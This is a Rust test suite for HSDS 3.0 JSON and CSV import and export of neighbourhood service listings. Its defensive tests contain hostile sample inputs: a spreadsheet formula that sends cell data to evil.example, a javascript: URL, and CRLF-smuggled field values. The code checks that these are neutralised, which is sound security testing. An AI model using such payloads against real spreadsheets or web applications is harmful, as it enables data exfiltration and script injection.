//! Open Referral HSDS 3.0: round trips through JSON and CSV, exports checked against the
//! official JSON schemas (Python `jsonschema`), the specification's own samples imported, and
//! bad files. `cargo test hsds` runs them all.

use crate::common::python;
use std::collections::BTreeMap;

use chrono::{DateTime, NaiveDate, NaiveTime};
use quartier_domain::model::{
    Address, Contact, Item, ItemContent, ItemDetails, LocalizedText, Location, NewItem, Offer, Organization,
    PersonId, Place, ServiceLocation, SpaceId, Status,
};
use quartier_domain::schedule::OpeningRule;
use quartier_standards::hsds::CSV_TABLES;
use quartier_standards::{
    export_hsds_csv, export_hsds_json, import_hsds_csv, import_hsds_json, HsdsImportOptions, Import,
    ImportError, MAX_IMPORT_BYTES,
};

const DATA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/hsds");

fn options() -> HsdsImportOptions {
    HsdsImportOptions {
        space: SpaceId::new(),
        author: PersonId::new(),
        language: "de".into(),
    }
}

fn time(h: u32, m: u32) -> NaiveTime {
    NaiveTime::from_hms_opt(h, m, 0).unwrap()
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn offer_item() -> Item {
    let offer = Offer {
        organization: Organization {
            name: "Nachbarschaftshaus Urbanstraße e.V.".into(),
            url: Some("https://nachbarschaftshaus.example".into()),
            email: Some("info@nachbarschaftshaus.example".into()),
            phone: Some("+49 30 6904970".into()),
        },
        category: None,
        service_url: Some("https://nachbarschaftshaus.example/beratung".into()),
        fees: Some("kostenlos".into()),
        eligibility: Some("Alle Menschen im Kiez".into()),
        location: Some(ServiceLocation {
            name: "Nachbarschaftshaus, Raum 2".into(),
            address: Some(Address {
                street: "Urbanstraße 21".into(),
                postal_code: "10961".into(),
                city: "Berlin".into(),
                country: "DE".into(),
            }),
        }),
        schedules: vec![
            OpeningRule {
                rrule: "FREQ=WEEKLY;BYDAY=MO,WE".into(),
                opens: time(9, 0),
                closes: time(12, 30),
                valid_from: Some(date(2026, 1, 5)),
                valid_until: Some(date(2026, 12, 31)),
                closed_on: vec![date(2026, 4, 6), date(2026, 5, 25)],
                description: Some("Offene Sprechstunde".into()),
            },
            OpeningRule {
                rrule: "FREQ=MONTHLY;BYDAY=1TU".into(),
                opens: time(18, 0),
                closes: time(20, 0),
                valid_from: None,
                valid_until: None,
                closed_on: vec![],
                description: None,
            },
            OpeningRule {
                rrule: "FREQ=WEEKLY;INTERVAL=2;BYDAY=FR;WKST=MO;COUNT=10".into(),
                opens: time(22, 0),
                closes: time(2, 0),
                valid_from: Some(date(2026, 1, 2)),
                valid_until: None,
                closed_on: vec![],
                description: None,
            },
        ],
        contacts: vec![
            Contact {
                name: Some("Ayşe Yılmaz".into()),
                title: Some("Sozialberaterin".into()),
                phone: Some("+49 30 6904971".into()),
                email: Some("beratung@nachbarschaftshaus.example".into()),
            },
            Contact {
                name: Some("Empfang".into()),
                ..Contact::default()
            },
        ],
        languages: vec!["de".into(), "tr".into(), "ar".into()],
        accessibility: vec!["Stufenloser Eingang".into(), "Induktionsschleife".into()],
        assured_date: Some(date(2026, 2, 1)),
        assured_by: None,
    };
    let mut content = ItemContent::new(
        LocalizedText::from([("de", "Sozialberatung")]),
        ItemDetails::Offer(offer),
    );
    content.body = LocalizedText::from([("de", "Beratung zu Miete, Jobcenter und Schulden.")]);
    content.location = Some(Location::new(52.49, 13.42));
    let mut item = NewItem::new(SpaceId::new(), PersonId::new(), content)
        .into_item(DateTime::from_timestamp_millis(1_767_225_600_000).unwrap());
    item.updated_at = DateTime::from_timestamp_millis(1_767_312_000_123).unwrap();
    item
}

fn minimal_offer() -> Item {
    let content = ItemContent::new(
        LocalizedText::from([("de", "Tauschregal")]),
        ItemDetails::Offer(Offer {
            organization: Organization {
                name: "Hausgemeinschaft".into(),
                ..Organization::default()
            },
            ..Offer::default()
        }),
    );
    NewItem::new(SpaceId::new(), PersonId::new(), content)
        .into_item(DateTime::from_timestamp_millis(0).unwrap())
}

/// What HSDS can hold of an offer: everything but the category, tags, media, audience, the end
/// of validity, on_behalf_of and who checked it (docs/standards.md).
fn holdable(item: &Item) -> ItemContent {
    let mut content = item.content.clone();
    if let ItemDetails::Offer(offer) = &mut content.details {
        offer.assured_by = None;
        offer.category = None;
    }
    content
}

/// HSDS spreads an RRULE over columns, so its parts come back in HSDS's order: the same rule.
fn rrule_parts_sorted(mut content: ItemContent) -> ItemContent {
    if let ItemDetails::Offer(offer) = &mut content.details {
        for rule in &mut offer.schedules {
            let mut parts: Vec<&str> = rule.rrule.split(';').collect();
            parts.sort_unstable();
            rule.rrule = parts.join(";");
        }
    }
    content
}

fn assert_round_trip(import: &Import, items: &[Item]) {
    assert_eq!(import.items.len(), items.len(), "{:#?}", import.skipped);
    for (item, imported) in items.iter().zip(&import.items) {
        assert_eq!(imported.source_key, format!("hsds:service:{}", item.id));
        assert_eq!(
            rrule_parts_sorted(imported.item.content.clone()),
            rrule_parts_sorted(holdable(item))
        );
    }
}

#[test]
fn hsds_json_round_trip_keeps_every_field_hsds_holds() {
    let items = vec![offer_item(), minimal_offer()];
    let export = export_hsds_json(&items, "de");
    assert!(export.skipped.is_empty(), "{:#?}", export.skipped);
    let import = import_hsds_json(&export.bytes, &options()).unwrap();
    assert!(import.skipped.is_empty(), "{:#?}", import.skipped);
    assert_round_trip(&import, &items);
}

#[test]
fn hsds_csv_round_trip_keeps_every_field_hsds_holds() {
    let items = vec![offer_item(), minimal_offer()];
    let export = export_hsds_csv(&items, "de").unwrap();
    assert!(export.skipped.is_empty(), "{:#?}", export.skipped);
    let names: Vec<&str> = export.files.keys().map(String::as_str).collect();
    for (table, _) in CSV_TABLES {
        assert!(names.contains(&table), "{table} missing from {names:?}");
    }
    assert!(names.contains(&"datapackage.json"));
    let import = import_hsds_csv(&export.files, &options()).unwrap();
    assert!(import.skipped.is_empty(), "{:#?}", import.skipped);
    assert_round_trip(&import, &items);
}

#[test]
fn hsds_exports_are_stable_and_report_what_does_not_map() {
    let mut item = offer_item();
    assert_eq!(
        export_hsds_json(&[item.clone()], "de"),
        export_hsds_json(&[item.clone()], "de")
    );
    assert_eq!(
        export_hsds_csv(&[item.clone()], "de").unwrap(),
        export_hsds_csv(&[item.clone()], "de").unwrap()
    );
    item.content.title.set("tr", "Sosyal danışmanlık");
    item.content.tags.insert("beratung".into());
    if let ItemDetails::Offer(offer) = &mut item.content.details {
        offer.schedules.push(OpeningRule {
            rrule: "FREQ=YEARLY;BYMONTH=12;BYMONTHDAY=24".into(),
            opens: time(10, 0),
            closes: time(14, 0),
            valid_from: None,
            valid_until: None,
            closed_on: vec![],
            description: Some("Weihnachtsfeier".into()),
        });
        offer.schedules.push(OpeningRule {
            rrule: "FREQ=DAILY".into(),
            opens: time(8, 0),
            closes: time(9, 0),
            valid_from: None,
            valid_until: None,
            closed_on: vec![],
            description: None,
        });
        offer.category = Some("beratung".into());
    }
    let mut draft = minimal_offer();
    draft.content.status = Status::Draft;
    let mut place = minimal_offer();
    place.content.details = ItemDetails::Place(Place::default());
    let export = export_hsds_json(&[item.clone(), draft.clone(), place.clone()], "tr");
    let reasons: Vec<String> = export
        .skipped
        .iter()
        .map(|s| format!("{}: {}", s.record, s.reason))
        .collect();
    let expect = [
        (item.id, "only the title nearest `tr`"),
        (item.id, "schedule 4: FREQ=YEARLY has no HSDS 3.0 form"),
        (item.id, "category is not written"),
        (item.id, "tags have no HSDS field"),
        (draft.id, "a draft offer is not exported"),
        (place.id, "a place is not an HSDS service"),
    ];
    for (id, reason) in expect {
        assert!(
            reasons
                .iter()
                .any(|r| r.starts_with(&id.to_string()) && r.contains(reason)),
            "no `{reason}` for {id} in {reasons:#?}"
        );
    }
    assert_eq!(reasons.len(), expect.len(), "{reasons:#?}");
    let page: serde_json::Value = serde_json::from_slice(&export.bytes).unwrap();
    assert_eq!(page["contents"][0]["name"], "Sosyal danışmanlık");
    // Every day becomes every weekday of the week, which HSDS can say.
    let daily = &page["contents"][0]["schedules"][4];
    assert_eq!(
        (&daily["freq"], &daily["byday"]),
        (&"WEEKLY".into(), &"MO,TU,WE,TH,FR,SA,SU".into())
    );
    let back = import_hsds_json(&export.bytes, &options()).unwrap();
    let ItemDetails::Offer(offer) = &back.items[0].item.content.details else {
        panic!()
    };
    // The yearly rule comes back without its recurrence: reported, not guessed.
    assert_eq!(offer.schedules.len(), 4);
    assert!(back
        .skipped
        .iter()
        .any(|s| s.record.contains("schedule") && s.reason.contains("no `freq`")));
}

/// Runs [`PYTHON_HSDS_CHECK`] on `page`, with the official schemas of the test data.
fn hsds_check(page: &[u8]) -> Option<std::process::Output> {
    let schemas = [("HSDS_SCHEMAS", format!("{DATA}/schema"))];
    python(PYTHON_HSDS_CHECK, &["jsonschema"], &[], &schemas, page)
}

/// Validates every service of the page against the official compiled service schema, with
/// formats (uuid, uri, date) checked, and the page against the service_list wrapper.
const PYTHON_HSDS_CHECK: &str = r#"
import json, os, sys
import jsonschema
schemas = os.environ["HSDS_SCHEMAS"]
service_schema = json.load(open(os.path.join(schemas, "compiled", "service_with_definitions.json")))
page = json.load(sys.stdin)
checker = jsonschema.Draft7Validator.FORMAT_CHECKER
validator = jsonschema.Draft7Validator(service_schema, format_checker=checker)
errors = []
for service in page["contents"]:
    for error in validator.iter_errors(service):
        errors.append("%s: %s" % (list(error.absolute_path), error.message))
for key in ("total_items", "total_pages", "page_number", "size", "first_page", "last_page", "empty"):
    if key not in page:
        errors.append("page lacks " + key)
if errors:
    sys.exit("\n".join(errors))
print(len(page["contents"]))
"#;

#[test]
fn hsds_json_export_validates_against_the_official_schema() {
    let export = export_hsds_json(&[offer_item(), minimal_offer()], "de");
    let Some(out) = hsds_check(&export.bytes) else {
        return;
    };
    assert!(
        out.status.success(),
        "the export does not validate against HSDS 3.0:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "2");

    // The checker is not vacuous: the specification's own example passes, a broken one fails.
    let sample = std::fs::read(format!("{DATA}/examples/service_full.json")).unwrap();
    let wrap = |service: &[u8]| {
        let service: serde_json::Value = serde_json::from_slice(service).unwrap();
        serde_json::to_vec(
            &serde_json::json!({"total_items": 1, "total_pages": 1, "page_number": 1,
            "size": 1, "first_page": true, "last_page": true, "empty": false, "contents": [service]}),
        )
        .unwrap()
    };
    let out = hsds_check(&wrap(&sample)).unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let broken = br#"{"id": "not-a-uuid", "name": "x", "status": "open"}"#;
    let out = hsds_check(&wrap(broken)).unwrap();
    assert!(!out.status.success());
}

#[test]
fn hsds_csv_export_has_the_official_tables_and_columns() {
    let export = export_hsds_csv(&[offer_item()], "de").unwrap();
    let official: serde_json::Value =
        serde_json::from_slice(&std::fs::read(format!("{DATA}/examples/csv/datapackage.json")).unwrap())
            .unwrap();
    for (table, _) in CSV_TABLES {
        let resource = official["resources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["path"] == table)
            .unwrap_or_else(|| panic!("{table} is no resource of the HSDS datapackage"));
        let expected: Vec<&str> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        let mut reader = csv::Reader::from_reader(export.files[table].as_slice());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        assert_eq!(header, expected, "{table}");
        // Required columns are filled in every row.
        let required: Vec<usize> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .enumerate()
            .filter(|(_, f)| f["constraints"]["required"] == true)
            .map(|(i, _)| i)
            .collect();
        for row in reader.records() {
            let row = row.unwrap();
            for &i in &required {
                assert!(
                    !row[i].is_empty() || expected[i] == "state_province",
                    "{table}: {} empty",
                    expected[i]
                );
            }
        }
    }
}

fn skipped_of(import: &Import) -> Vec<String> {
    import
        .skipped
        .iter()
        .map(|s| format!("{}: {}", s.record, s.reason))
        .collect()
}

#[test]
fn hsds_imports_the_specification_samples_json() {
    let full = std::fs::read(format!("{DATA}/examples/service_full.json")).unwrap();
    let import = import_hsds_json(&full, &options()).unwrap();
    assert_eq!(import.items.len(), 1, "{:#?}", import.skipped);
    let item = &import.items[0];
    assert_eq!(
        item.source_key,
        "hsds:service:ac148810-d857-441c-9679-408f346de14b"
    );
    assert_eq!(item.item.content.title.get("de"), Some("Community Counselling"));
    let ItemDetails::Offer(offer) = &item.item.content.details else {
        panic!()
    };
    assert_eq!(offer.organization.name, "Example Organization Inc.");
    assert_eq!(offer.languages, vec!["ur".to_owned()]);
    assert_eq!(offer.contacts[0].name.as_deref(), Some("Ann Persona"));
    assert_eq!(offer.location.as_ref().unwrap().name, "MyCity Civic Center");
    assert_eq!(offer.accessibility.len(), 1);
    let skipped = skipped_of(&import);
    println!("{skipped:#?}");
    // The sample's schedule has COUNT and UNTIL together, which RFC 5545 forbids; its location
    // lies at latitude 100.
    for expected in [
        "schedule 48102e86-bb50-41c4-8f1e-e269368c41d1: not taken",
        "location latitude/longitude: not taken",
    ] {
        assert!(
            skipped.iter().any(|s| s.contains(expected)),
            "no `{expected}` in {skipped:#?}"
        );
    }
    assert_eq!(skipped.len(), 2, "{skipped:#?}");
    assert!(offer.schedules.is_empty());

    let list = std::fs::read(format!("{DATA}/examples/service_list.json")).unwrap();
    let import = import_hsds_json(&list, &options()).unwrap();
    assert_eq!(import.items.len(), 1, "{:#?}", import.skipped);
    assert!(import.skipped.is_empty(), "{:#?}", import.skipped);
}

fn sample_csv() -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    for entry in std::fs::read_dir(format!("{DATA}/examples/csv")).unwrap() {
        let entry = entry.unwrap();
        files.insert(
            entry.file_name().into_string().unwrap(),
            std::fs::read(entry.path()).unwrap(),
        );
    }
    files
}

#[test]
fn hsds_imports_the_specification_samples_csv() {
    let import = import_hsds_csv(&sample_csv(), &options()).unwrap();
    assert_eq!(import.items.len(), 1, "{:#?}", import.skipped);
    let ItemDetails::Offer(offer) = &import.items[0].item.content.details else {
        panic!()
    };
    assert_eq!(offer.organization.name, "Example Organization Inc.");
    assert_eq!(offer.contacts.len(), 1);
    assert_eq!(offer.contacts[0].phone.as_deref(), Some("\"+44 1234 234567\""));
    let skipped = skipped_of(&import);
    println!("{skipped:#?}");
    for expected in [
        "programs.csv: not read",
        "funding.csv: not read",
        "schedule 48102e86-bb50-41c4-8f1e-e269368c41d1: not taken",
        "location latitude/longitude: not taken",
    ] {
        assert!(
            skipped.iter().any(|s| s.contains(expected)),
            "no `{expected}` in {skipped:#?}"
        );
    }
    // The eleven tables that do not map (programs, funding, taxonomies, …), each named once,
    // and the two records above: every row of the ten tables we read was used.
    assert_eq!(skipped.len(), 13, "{skipped:#?}");
}

#[test]
fn hsds_reimport_of_an_updated_file_keeps_the_keys() {
    let mut item = offer_item();
    let first = import_hsds_json(&export_hsds_json(&[item.clone()], "de").bytes, &options()).unwrap();
    item.content.title.set("de", "Sozialberatung (neu)");
    let second = import_hsds_json(&export_hsds_json(&[item.clone()], "de").bytes, &options()).unwrap();
    assert_eq!(first.items[0].source_key, second.items[0].source_key);
    assert_eq!(
        second.items[0].item.content.title.get("de"),
        Some("Sozialberatung (neu)")
    );
}

#[test]
fn hsds_import_reports_bad_records_with_reasons() {
    let file = r#"[
        {"id": "a0000000-0000-4000-8000-000000000001", "name": "Ohne Träger", "status": "active"},
        {"id": "a0000000-0000-4000-8000-000000000002", "status": "active", "organization": {"id": "x", "name": "O", "description": ""}},
        {"name": "Ohne Id", "status": "active"},
        {"id": "a0000000-0000-4000-8000-000000000004", "name": "Alt", "status": "defunct"},
        {"id": "a0000000-0000-4000-8000-000000000005", "name": ["Liste"], "status": "active"},
        {"id": "a0000000-0000-4000-8000-000000000006", "name": "Gut", "status": "active",
         "organization": {"id": "x", "name": "O", "description": "", "phones": "0301234"},
         "languages": [{"id": "l", "name": "Türkisch"}, {"id": "m", "code": "not a tag"}],
         "schedules": [{"id": "s1", "freq": "WEEKLY", "byday": "MO", "opens_at": "09:00"},
                       {"id": "s2", "freq": "HOURLY", "opens_at": "09:00", "closes_at": "10:00"},
                       {"id": "s3", "freq": "WEEKLY", "byday": "MO", "opens_at": "09:00+02:00", "closes_at": "10:00", "timezone": 2}],
         "service_at_locations": [{"id": "sal", "location": {"id": "loc", "location_type": "physical", "latitude": "52.5"}}]},
        {"id": "a0000000-0000-4000-8000-000000000006", "name": "Doppelt", "status": "active", "organization": {"id": "x", "name": "O", "description": ""}},
        42
    ]"#;
    let import = import_hsds_json(file.as_bytes(), &options()).unwrap();
    assert_eq!(import.items.len(), 1, "{:#?}", import.skipped);
    let skipped = skipped_of(&import);
    let expected = [
        "service a0000000-0000-4000-8000-000000000001: no organization",
        "service a0000000-0000-4000-8000-000000000002: no `name`",
        "service 3: no `id`",
        "service a0000000-0000-4000-8000-000000000004: the service is `defunct`",
        "service a0000000-0000-4000-8000-000000000005: `name` must be text, not a list",
        "service a0000000-0000-4000-8000-000000000006 organization phones: not taken: text instead of a list",
        "service a0000000-0000-4000-8000-000000000006 language: not taken: no `code`",
        "service a0000000-0000-4000-8000-000000000006 language: not taken: `not a tag` is not a BCP-47 tag",
        "service a0000000-0000-4000-8000-000000000006 schedule s1: not taken: no `closes_at`",
        "service a0000000-0000-4000-8000-000000000006 schedule s2: not taken: `freq` is `HOURLY`",
        "service a0000000-0000-4000-8000-000000000006 schedule s3: partly taken: the offset `+02:00`",
        "service a0000000-0000-4000-8000-000000000006 schedule s3: partly taken: `timezone`",
        "service a0000000-0000-4000-8000-000000000006 location latitude/longitude: not taken",
        "service a0000000-0000-4000-8000-000000000006: the id appears twice",
        "service 8: a number instead of a service object",
    ];
    for e in expected {
        assert!(
            skipped.iter().any(|s| s.starts_with(e)),
            "no `{e}` in {skipped:#?}"
        );
    }
    assert_eq!(skipped.len(), expected.len(), "{skipped:#?}");
}

#[test]
fn hsds_csv_import_reports_rows_that_belong_to_no_service() {
    let mut files = export_hsds_csv(&[offer_item()], "de").unwrap().files;
    let mut phones = files["phones.csv"].clone();
    phones.extend_from_slice(b"b0000000-0000-4000-8000-000000000001,,,,,,+49 30 1,,,Waise\n");
    files.insert("phones.csv".into(), phones);
    let mut schedules = files["schedules.csv"].clone();
    schedules.extend_from_slice(b"b0000000-0000-4000-8000-000000000002,c0000000-0000-4000-8000-000000000000,,,,,,,,,,WEEKLY,,MO,,,,,09:00,10:00,,,\n");
    schedules.extend_from_slice(b"too,few,fields\n");
    files.insert("schedules.csv".into(), schedules);
    let import = import_hsds_csv(&files, &options()).unwrap();
    assert_eq!(import.items.len(), 1);
    let skipped = skipped_of(&import);
    for e in [
        "phones.csv line 4 (b0000000-0000-4000-8000-000000000001): not taken: it belongs to no service",
        "schedules.csv line 5 (b0000000-0000-4000-8000-000000000002): not taken: it belongs to no service",
        "schedules.csv line 6: not read",
    ] {
        assert!(
            skipped.iter().any(|s| s.starts_with(e)),
            "no `{e}` in {skipped:#?}"
        );
    }
    assert_eq!(skipped.len(), 3, "{skipped:#?}");
}

#[test]
fn hsds_import_refuses_bad_files_with_typed_errors() {
    let malformed = |bytes: &[u8]| match import_hsds_json(bytes, &options()) {
        Err(ImportError::Malformed {
            format: "HSDS JSON",
            reason,
        }) => reason,
        other => panic!("expected Malformed, got {other:?}"),
    };
    assert!(malformed(b"\"a string\"").contains("expected a service object"));
    assert!(malformed(b"{\"total_items\": 1}").contains("expected a service object"));
    assert!(malformed(b"[{\"id\": 1,").contains("EOF"));
    let deep = format!("[{}{}]", "[".repeat(50_000), "]".repeat(50_000));
    assert!(malformed(deep.as_bytes()).contains("recursion limit"));
    assert_eq!(
        import_hsds_json(b"[]\xff", &options()),
        Err(ImportError::NotUtf8 { offset: 2 })
    );
    let huge = vec![b' '; 50 * 1024 * 1024];
    assert_eq!(
        import_hsds_json(&huge, &options()),
        Err(ImportError::TooLarge {
            size: huge.len(),
            max: MAX_IMPORT_BYTES
        })
    );

    let mut files = BTreeMap::new();
    files.insert("phones.csv".to_owned(), b"id,number\n".to_vec());
    assert!(matches!(
        import_hsds_csv(&files, &options()),
        Err(ImportError::Malformed {
            format: "HSDS CSV",
            ..
        })
    ));
    files.insert("services.csv".to_owned(), b"id,name\n1,\xff\n".to_vec());
    assert_eq!(
        import_hsds_csv(&files, &options()),
        Err(ImportError::NotUtf8 { offset: 10 })
    );
    files.insert("services.csv".to_owned(), vec![b' '; 30 * 1024 * 1024]);
    assert!(matches!(
        import_hsds_csv(&files, &options()),
        Err(ImportError::TooLarge { .. })
    ));
}

#[test]
fn hsds_import_takes_only_http_urls_and_language_tags() {
    let file = r#"[{"id": "a0000000-0000-4000-8000-000000000009", "name": "Beratung", "status": "active",
        "url": "javascript:alert(1)",
        "organization": {"id": "x", "name": "O", "description": "", "website": "https://x.example/\r\nTEL:+1 900"},
        "languages": [{"id": "l1", "code": "de\r\nTEL:+1 900 FRAUD"}, {"id": "l2", "code": "tr"}]}]"#;
    let import = import_hsds_json(file.as_bytes(), &options()).unwrap();
    let ItemDetails::Offer(offer) = &import.items[0].item.content.details else {
        panic!("not an offer")
    };
    assert_eq!(offer.service_url, None);
    assert_eq!(offer.organization.url, None);
    assert_eq!(offer.languages, ["tr"]);
    let skipped = skipped_of(&import);
    for e in [
        "service a0000000-0000-4000-8000-000000000009 url: not taken: `javascript:alert(1)` is not an http(s) URL",
        "service a0000000-0000-4000-8000-000000000009 organization website: not taken: `https://x.example/\\r\\nTEL",
        "service a0000000-0000-4000-8000-000000000009 language: not taken: `de\r\nTEL:+1 900 FRAUD` is not a BCP-47 tag",
    ] {
        assert!(skipped.iter().any(|s| s.starts_with(e)), "no `{e}` in {skipped:#?}");
    }
    assert_eq!(skipped.len(), 3, "{skipped:#?}");
}

#[test]
fn hsds_csv_export_defuses_formulas_and_round_trips_losslessly() {
    let mut item = offer_item();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Klick")"#;
    item.content.title = LocalizedText::from([("de", formula)]);
    item.content.body = LocalizedText::from([("de", "@SUMME(1;2)")]);
    if let ItemDetails::Offer(offer) = &mut item.content.details {
        offer.fees = Some("-5 € für Material".into());
        offer.eligibility = Some("-- nach Absprache --".into());
        offer.organization.phone = Some("+49 221 555 0101".into());
        offer.contacts[0].name = Some("'=schon zitiert".into());
        offer.contacts[0].title = Some("+SUM(A1)".into());
        offer.contacts[0].phone = Some("(030) 12/34-5".into());
        offer.contacts[1].name = Some("'+49 als Text".into());
        offer.accessibility[0] = "'Stufenlos".into();
    }
    let export = export_hsds_csv(std::slice::from_ref(&item), "de").unwrap();
    let services = String::from_utf8(export.files["services.csv"].clone()).unwrap();
    assert!(
        services.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")""#),
        "{services}"
    );
    let phones = String::from_utf8(export.files["phones.csv"].clone()).unwrap();
    assert!(phones.contains(",+49 221 555 0101,"), "{phones}");
    assert!(phones.contains(",(030) 12/34-5,"), "{phones}");
    // No cell a spreadsheet would run as a formula.
    for (name, bytes) in &export.files {
        if !name.ends_with(".csv") {
            continue;
        }
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let plain = cell.chars().all(|c| c.is_ascii_digit() || " ()./-+".contains(c));
                match cell.chars().next() {
                    Some('=' | '@' | '\t' | '\r') => panic!("{name}: {cell:?}"),
                    Some('+' | '-') => assert!(plain, "{name}: {cell:?}"),
                    _ => {}
                }
            }
        }
    }
    let import = import_hsds_csv(&export.files, &options()).unwrap();
    assert_round_trip(&import, &[item]);
}

#[test]
fn hsds_csv_import_bounds_cells_and_the_joined_services() {
    use quartier_standards::hsds::{MAX_CELL_BYTES, MAX_JOINED_BYTES};
    let service_rows = |count: usize| {
        let mut text = "id,organization_id,name,status\n".to_owned();
        for i in 0..count {
            text.push_str(&format!("s{i},o1,Dienst {i},active\n"));
        }
        text.into_bytes()
    };
    // A cell over the limit: the row is not read, and says why.
    let long = format!(
        "id,name,description\no1,Verein,kurz\no2,Zu lang,{}\n",
        "x".repeat(MAX_CELL_BYTES + 1)
    );
    let files = BTreeMap::from([
        ("organizations.csv".to_owned(), long.into_bytes()),
        ("services.csv".to_owned(), service_rows(2)),
    ]);
    let import = import_hsds_csv(&files, &options()).unwrap();
    assert_eq!(import.items.len(), 2);
    let skipped = skipped_of(&import);
    assert!(
        skipped
            .iter()
            .any(|s| s.starts_with("organizations.csv line 3: not read: its `description` is")),
        "{skipped:#?}"
    );
    // One shared organization just under the cell limit, named by enough services to pass the
    // bound of the join: refused, though the file is small.
    let shared = format!(
        "id,name,description\no1,Verein,{}\n",
        "x".repeat(MAX_CELL_BYTES - 100)
    );
    let count = MAX_JOINED_BYTES / (MAX_CELL_BYTES - 100) + 1;
    let files = BTreeMap::from([
        ("organizations.csv".to_owned(), shared.into_bytes()),
        ("services.csv".to_owned(), service_rows(count)),
    ]);
    assert!(files.values().map(Vec::len).sum::<usize>() < MAX_IMPORT_BYTES / 100);
    match import_hsds_csv(&files, &options()) {
        Err(ImportError::Malformed {
            format: "HSDS CSV",
            reason,
        }) => {
            assert!(reason.contains(&MAX_JOINED_BYTES.to_string()), "{reason}")
        }
        other => panic!("expected Malformed, got {:?}", other.map(|i| i.items.len())),
    }
}
